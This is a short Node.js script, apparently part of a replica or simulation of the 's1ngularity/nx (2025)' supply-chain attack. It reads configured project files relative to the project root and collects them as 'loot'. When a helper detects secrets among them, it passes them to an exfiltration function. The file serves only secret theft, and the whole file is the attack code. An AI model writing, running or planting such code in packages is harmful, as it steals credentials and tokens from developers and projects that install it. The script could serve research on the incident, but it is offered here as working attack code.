'use strict';
// s1ngularity/nx (2025): the project's own secrets, read relative to the install
// (params.files, relative to the project root).
const path = require('path');
const lib = require('./lib.js');

lib.run(async () => {
  let loot = '';
  for (const rel of lib.cfg.params.files) loot += `== ${rel}\n${lib.readText(path.join(lib.projectRoot(), rel)) || ''}\n`;
  if (lib.found(loot).length > 0) await lib.exfil(loot);
});
